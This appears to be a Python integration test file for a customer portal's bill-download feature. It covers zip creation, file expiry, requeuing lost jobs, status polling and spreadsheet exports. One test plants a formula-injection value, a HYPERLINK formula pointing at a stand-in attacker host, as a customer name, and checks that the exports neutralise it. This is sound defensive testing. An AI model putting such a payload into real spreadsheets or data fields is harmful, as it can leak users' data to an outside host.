"""The zip job and the minute sweep: running twice makes one zip and one email; files expire and the page
says so; lost jobs are queued again, dead ones fail with "Try again"; the status fragment polls only while
something is in progress and announces what changed."""

from __future__ import annotations

import asyncio
import csv
import datetime as dt
import io
import json
import re
import zipfile
from typing import Any

from openpyxl import load_workbook

from portal import clock
from portal.db.tables import Customer, DownloadRequest, OutboxEmail
from portal.downloads import archive, sweep
from portal.infra.storage import Storage
from portal.templating import format_day, make_environment
from tests.conftest import browser, stored_keys, submit
from tests.integration.downloads.download_steps import (
    bills_in_period,
    confirmed_request,
    details_form,
    request_until_check,
    text_of,
    wait_until_finished,
)
from tests.steps import ADMIN, ANA_IDENTITY, sign_in


async def state_of(request_id: int) -> dict[str, Any]:
    row = await DownloadRequest.select().where(DownloadRequest.id == request_id).first()
    assert row is not None
    return row


async def test_running_twice_makes_one_zip_and_one_email(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    storage, env = Storage(settings.storage), make_environment(settings)
    assert await archive.build(request_id, settings, storage, queue, env) == "ready"
    first = await storage.read(archive.zip_key(request_id))
    assert first is not None
    # A second run that started before the first one finished (a swept job's retry) uploads the zip
    # again, which replaces the first whole when complete: still one file, still one email.
    await DownloadRequest.update({DownloadRequest.state: "preparing"}).where(DownloadRequest.id == request_id)
    assert await archive.build(request_id, settings, storage, queue, env) == "ready"
    # A run after it is ready does nothing.
    assert await archive.build(request_id, settings, storage, queue, env) == "nothing to do"
    assert await stored_keys(storage, "downloads/") == [archive.zip_key(request_id)]
    names = zipfile.ZipFile(io.BytesIO(first)).namelist()
    second = await storage.read(archive.zip_key(request_id))
    assert second is not None and zipfile.ZipFile(io.BytesIO(second)).namelist() == names
    emails = await OutboxEmail.select().where(OutboxEmail.template == "download_ready")
    assert len(emails) == 1 and emails[0]["dedupe_key"] == f"download-ready:{request_id}"
    assert (await state_of(request_id))["attempts"] == 2


async def test_files_expire_and_the_page_says_so(client: Any, demo: None, queue: Any, settings: Any) -> None:
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    storage = Storage(settings.storage)
    await archive.build(request_id, settings, storage, queue, make_environment(settings))
    assert (await client.get(f"/downloads/{request_id}/file")).status_code == 200
    await DownloadRequest.update({DownloadRequest.expires_at: clock.now() - dt.timedelta(minutes=1)}).where(
        DownloadRequest.id == request_id
    )
    counts = await sweep.sweep(settings, storage, queue)
    assert counts["expired"] == 1
    assert await stored_keys(storage, "downloads/") == []
    assert (await state_of(request_id))["state"] == "expired"
    # Its link, left open in the list or bookmarked: gone for good, and the page says so.
    file = await client.get(f"/downloads/{request_id}/file")
    assert file.status_code == 410 and "<h1>This file has expired</h1>" in file.text
    page = text_of((await client.get("/downloads/requested")).text)
    assert "Expired" in page and "The file was deleted" in page and "7 days after it was ready" in page


async def test_the_requests_own_page_says_what_became_of_it(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    """The request's page, where Confirm leads and so does Back to its check page days later, tells the
    request's state: once ready, failed or expired it no longer says the file is being prepared."""
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    preparing = "We are preparing your file"

    async def request_page() -> str:
        back = await client.get(f"/downloads/{request_id}/check")
        assert back.headers["location"] == f"/downloads/{request_id}/requested"
        return text_of((await client.get(back.headers["location"])).text)

    assert preparing in await request_page()
    await archive.build(request_id, settings, Storage(settings.storage), queue, make_environment(settings))
    expires = format_day(clock.day_of((await state_of(request_id))["expires_at"]))
    page = await request_page()
    assert preparing not in page
    assert f"Your file is ready: download it from Downloads requested until {expires}." in page
    await DownloadRequest.update({DownloadRequest.state: "failed"}).where(DownloadRequest.id == request_id)
    page = await request_page()
    assert preparing not in page
    assert "Something went wrong while preparing the file. You can try again in Downloads requested" in page
    await DownloadRequest.update({DownloadRequest.state: "expired"}).where(DownloadRequest.id == request_id)
    page = await request_page()
    assert preparing not in page and "The file was deleted" in page and "7 days after it was ready" in page


async def test_the_files_address_says_what_became_of_it(
    client: Any, app: Any, demo: None, queue: Any, settings: Any
) -> None:
    """The file's address of one's own request without a file to give (a link in the list left open, a
    bookmark) says what became of the request and leads to "Downloads requested", in the words the
    request's own page uses, rather than "Page not found… check the address you typed". Another user's
    request gets "Page not found", the very page of an id that names no request."""
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    address = f"/downloads/{request_id}/file"
    storage = Storage(settings.storage)
    count = (await state_of(request_id))["bill_count"]

    async def no_file(status: int) -> str:
        response = await client.get(address)
        assert response.status_code == status
        assert "Page not found" not in response.text
        assert '<a href="/downloads/requested">Downloads requested</a>' in response.text
        assert "Signed in as ana.demo" in response.text and response.headers["cache-control"] == "no-store"
        return text_of(response.text)

    page = await no_file(404)  # queued
    assert f"This file is not ready yet Ana bills.zip, {count} bills We are preparing your file." in page
    await archive.build(request_id, settings, storage, queue, make_environment(settings))
    assert (await client.get(address)).status_code == 200
    await DownloadRequest.update({DownloadRequest.state: "failed"}).where(DownloadRequest.id == request_id)
    page = await no_file(404)  # "Try again" makes it again, at this address
    assert "This file could not be prepared" in page
    assert "Something went wrong while preparing the file. You can try again in Downloads requested" in page

    # Past its time, while the sweep has deleted the file but not yet said so: expired already.
    await DownloadRequest.update(
        {DownloadRequest.state: "ready", DownloadRequest.expires_at: clock.now() - dt.timedelta(minutes=1)}
    ).where(DownloadRequest.id == request_id)
    await storage.delete(archive.zip_key(request_id))
    assert "This file has expired" in await no_file(410)
    await sweep.sweep(settings, storage, queue)
    assert (await state_of(request_id))["state"] == "expired"
    page = await no_file(410)
    assert f"This file has expired Ana bills.zip, {count} bills The file was deleted" in page
    assert "7 days after it was ready" in page

    # Someone else's request, or none: nothing tells one from the other.
    def masked(page: str, number: int) -> str:
        page = page.replace(f"/downloads/{number}/file", "/downloads/ID/file")
        return re.sub(r'(name="_csrf_token" value="|"x-csrftoken": ")[^"]+', r"\1…", page)

    async with browser(app, "198.51.100.7") as other:
        await sign_in(other, ADMIN)
        others = await other.get(address)
        nothing = await other.get(f"/downloads/{request_id + 1000}/file")
    assert others.status_code == nothing.status_code == 404 and "Page not found" in others.text
    assert masked(others.text, request_id) == masked(nothing.text, request_id + 1000)
    # Nor does a draft of one's own have a file, nor ever a link to one.
    draft = await request_until_check(client)
    assert "Page not found" in (await client.get(f"/downloads/{draft}/file")).text


async def test_a_lost_job_is_queued_again_and_a_dead_one_fails(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    long_ago = clock.now() - dt.timedelta(hours=1)
    await DownloadRequest.update({DownloadRequest.updated_at: long_ago}).where(
        DownloadRequest.id == request_id
    )
    storage = Storage(settings.storage)
    # The job is still queued: nothing to do.
    assert (await sweep.sweep(settings, storage, queue))["requeued"] == 0
    # The job went missing (the enqueue after the commit was lost): queued again.
    await queue.abort(await queue.job(f"download:{request_id}"), "lost")
    job = await queue.job(f"download:{request_id}")
    assert job is None or job.status not in {"queued", "active"}
    assert (await sweep.sweep(settings, storage, queue))["requeued"] == 1
    assert (await queue.job(f"download:{request_id}")).status == "queued"
    # Being prepared, but its job ended (out of retries): failed, with "Try again".
    await queue.abort(await queue.job(f"download:{request_id}"), "dead")
    await DownloadRequest.update(
        {DownloadRequest.state: "preparing", DownloadRequest.updated_at: long_ago}
    ).where(DownloadRequest.id == request_id)
    assert (await sweep.sweep(settings, storage, queue))["failed"] == 1
    page = await client.get("/downloads/requested")
    assert "Failed" in text_of(page.text) and "Try again" in page.text
    response = await submit(client, f"/downloads/{request_id}/retry")
    assert response.status_code == 303 and response.headers["location"] == "/downloads/requested"
    assert (await state_of(request_id))["state"] == "queued"
    assert (await queue.job(f"download:{request_id}")).status == "queued"


async def test_stale_drafts_are_forgotten(client: Any, demo: None, queue: Any, settings: Any) -> None:
    await sign_in(client)
    response = await submit(
        client,
        "/downloads/new",
        details_form(name="x", period="last_3", select_by="identity", selector="33127845W"),
    )
    request_id = int(response.headers["location"].split("/")[2])
    await DownloadRequest.update({DownloadRequest.updated_at: clock.now() - dt.timedelta(days=2)}).where(
        DownloadRequest.id == request_id
    )
    assert (await sweep.sweep(settings, Storage(settings.storage), queue))["drafts"] == 1
    assert (await client.get(f"/downloads/{request_id}/bills")).status_code == 404


async def test_the_status_fragment_polls_while_in_progress_and_announces_changes(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    page = await client.get("/downloads/requested")
    assert 'hx-trigger="every 2s"' in page.text and "Check again" in page.text
    assert "Queued" in text_of(page.text)
    status = await client.get("/downloads/requested/status", params={"seen": f"{request_id}:queued"})
    assert status.status_code == 200 and "hx-swap-oob" not in status.text
    # A fragment: no cache may serve it in place of the page (DESIGN, hypermedia rules).
    assert "HX-Request" in status.headers.get_list("vary")
    await DownloadRequest.update({DownloadRequest.state: "preparing", DownloadRequest.done: 3}).where(
        DownloadRequest.id == request_id
    )
    status = await client.get("/downloads/requested/status", params={"seen": f"{request_id}:queued"})
    assert "<progress" in status.text and 'value="3"' in status.text
    assert "Preparing: 3 of" in text_of(status.text)
    assert (
        'hx-swap-oob="innerHTML:#live-status"' in status.text and "Ana bills.zip: preparing." in status.text
    )
    await archive.build(request_id, settings, Storage(settings.storage), queue, make_environment(settings))
    status = await client.get("/downloads/requested/status", params={"seen": f"{request_id}:preparing"})
    assert status.status_code == 286
    assert "hx-trigger" not in status.text and "Ana bills.zip: ready." in status.text
    page = await client.get("/downloads/requested")
    assert "hx-trigger" not in page.text and "Check again" not in page.text


async def test_missing_pdfs_are_rendered_by_jobs_of_a_few_consecutive_bills(
    client: Any, demo: None, worker: Any, settings: Any
) -> None:
    """The zip job hands the missing PDFs to the render task RENDER_BATCH bills at a time, in zip order,
    each bill in one job (a job per bill cost the Postgres queue ≈ 10 % more than the renders)."""
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_12")
    await wait_until_finished(client)
    assert (await state_of(request_id))["state"] == "ready"
    in_zip_order = [bill_id for bill_id, _ in await archive._bill_numbers(request_id)]
    assert len(in_zip_order) == await bills_in_period() > 2 * archive.RENDER_BATCH  # several batches
    # The zip can be ready while a batch whose bills it rendered itself is still finishing: wait for it.
    async with asyncio.timeout(30):
        while True:
            jobs = [
                job
                for bill_id in in_zip_order
                if (job := await worker.queue.job(archive.render_key(bill_id, "en"))) is not None
            ]
            if all(job.status == "complete" for job in jobs):
                break
            await asyncio.sleep(0.1)
    batches = [job.kwargs["bill_ids"] for job in jobs]
    assert [bill_id for batch in batches for bill_id in batch] == in_zip_order
    assert {len(batch) for batch in batches[:-1]} == {archive.RENDER_BATCH}
    assert len(batches[-1]) <= archive.RENDER_BATCH
    assert all(job.result.endswith(f"of {len(job.kwargs['bill_ids'])} rendered") for job in jobs)


async def test_the_ready_email_gives_the_last_day_in_the_customers_time_zone(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    # Ready at 23:30 UTC, already the next day in Madrid: the file is kept until the Madrid day that
    # the Downloads requested page shows, not UTC's, one day earlier.
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    ready = dt.datetime.combine(clock.now().date(), dt.time(23, 30), dt.UTC)
    with clock.frozen_at(ready):
        await archive.build(
            request_id, settings, Storage(settings.storage), queue, make_environment(settings)
        )
    last = ready + dt.timedelta(days=settings.downloads.retention_days)
    [email] = await OutboxEmail.select().where(OutboxEmail.template == "download_ready")
    assert f"until {format_day(clock.day_of(last))}." in email["body_text"]
    assert format_day(last.date()) not in email["body_text"]


async def test_a_holder_name_like_a_formula_is_text_in_every_list(
    client: Any, demo: None, queue: Any, settings: Any
) -> None:
    """index.csv gets a quote before it (as bills.csv does); index.json keeps it as it is, for programs;
    the Excel list writes it as a text cell, never a formula."""
    formula = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
    await Customer.update({Customer.name: formula}).where(Customer.identity_number == ANA_IDENTITY)
    await sign_in(client)
    request_id = await confirmed_request(client, period="last_3")
    storage = Storage(settings.storage)
    await archive.build(request_id, settings, storage, queue, make_environment(settings))
    zipped = await storage.read(archive.zip_key(request_id))
    assert zipped is not None
    with zipfile.ZipFile(io.BytesIO(zipped)) as files:
        rows = list(csv.DictReader(files.read("index.csv").decode().splitlines()))
        bills = json.loads(files.read("index.json"))["bills"]
    assert rows and {row["holder"] for row in rows} == {"'" + formula}
    assert all(float(row["amount_eur"]) > 0 for row in rows)
    assert {bill["holder"] for bill in bills} == {formula}
    sheet = load_workbook(io.BytesIO((await client.get(f"/downloads/{request_id}/list.xlsx")).content)).active
    holders = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert holders and {(cell.data_type, cell.value) for cell in holders} == {("s", formula)}
